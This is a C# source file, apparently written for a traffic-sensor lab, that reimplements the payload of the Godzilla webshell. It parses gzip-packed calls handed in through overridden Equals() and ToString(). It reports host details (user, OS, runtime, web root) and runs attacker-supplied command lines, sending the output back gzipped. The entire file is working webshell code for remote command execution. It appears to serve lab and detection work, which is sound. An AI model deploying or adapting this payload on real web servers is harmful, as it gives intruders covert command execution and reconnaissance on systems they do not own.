// TrafficSensor lab: the payload assembly of the lab's Godzilla CSHARP_* shells, written for the lab.
// The shell keeps it in the session and hands each call to an instance of LY through Equals()
// (the context, the output stream, the decrypted call) and ToString() (run the call). A call is
// gzip(name 0x02 length:int32 value ...); the answer gzip(result) written to the output stream.
using System;
using System.Collections.Generic;
using System.IO;
using System.IO.Compression;
using System.Text;
using System.Web;

public class LY
{
    private HttpContext context;
    private Stream output;
    private byte[] call;

    public override bool Equals(object o)
    {
        if (o is HttpContext) context = (HttpContext)o;
        else if (o is Stream) output = (Stream)o;
        else if (o is byte[]) call = (byte[])o;
        return true;
    }

    public override int GetHashCode() { return 0; }

    public override string ToString()
    {
        if (output == null || call == null) return "";
        var parameters = Parse(Gunzip(call));
        string method;
        parameters.TryGetValue("methodName", out method);
        string result;
        switch (method)
        {
            case "test": result = "ok"; break;
            case "getBasicsInfo": result = BasicsInfo(); break;
            case "getFile": result = "ok\n" + LabRunner.Run("ls -la"); break;
            case "execCommand":
                string line;
                parameters.TryGetValue("cmdLine", out line);
                result = LabRunner.Run(Command(line ?? ""));
                break;
            default: result = "method is not exist"; break;
        }
        var packed = Gzip(Encoding.UTF8.GetBytes(result));
        output.Write(packed, 0, packed.Length);
        return "";
    }

    private string BasicsInfo()
    {
        var b = new StringBuilder();
        b.Append("FileRoot : /\n");
        b.Append("CurrentDir : ").Append(context != null ? context.Server.MapPath("~/") : Environment.CurrentDirectory).Append('\n');
        b.Append("CurrentUser : ").Append(Environment.UserName).Append('\n');
        b.Append("OsInfo : ").Append(Environment.OSVersion).Append('\n');
        b.Append("RuntimeVersion : ").Append(Environment.Version).Append('\n');
        b.Append("ProcessArch : ").Append(IntPtr.Size * 8).Append('\n');
        return b.ToString();
    }

    /// <summary>The command inside the tool's `sh -c "cd "DIR";COMMAND" 2>&amp;1` line.</summary>
    private static string Command(string line)
    {
        var start = line.IndexOf(';');
        if (start < 0) return line;
        var end = line.IndexOf('"', start + 1);
        return end < 0 ? line.Substring(start + 1) : line.Substring(start + 1, end - start - 1);
    }

    private static Dictionary<string, string> Parse(byte[] plain)
    {
        var result = new Dictionary<string, string>();
        for (var i = 0; i < plain.Length;)
        {
            var sep = Array.IndexOf(plain, (byte)2, i);
            if (sep < 0 || sep + 5 > plain.Length) break;
            var length = BitConverter.ToInt32(plain, sep + 1);
            if (length < 0 || sep + 5 + length > plain.Length) break;
            result[Encoding.UTF8.GetString(plain, i, sep - i)] = Encoding.UTF8.GetString(plain, sep + 5, length);
            i = sep + 5 + length;
        }
        return result;
    }

    private static byte[] Gunzip(byte[] data)
    {
        using (var z = new GZipStream(new MemoryStream(data), CompressionMode.Decompress))
        {
            var ms = new MemoryStream();
            z.CopyTo(ms);
            return ms.ToArray();
        }
    }

    private static byte[] Gzip(byte[] data)
    {
        var ms = new MemoryStream();
        using (var z = new GZipStream(ms, CompressionMode.Compress)) z.Write(data, 0, data.Length);
        return ms.ToArray();
    }
}
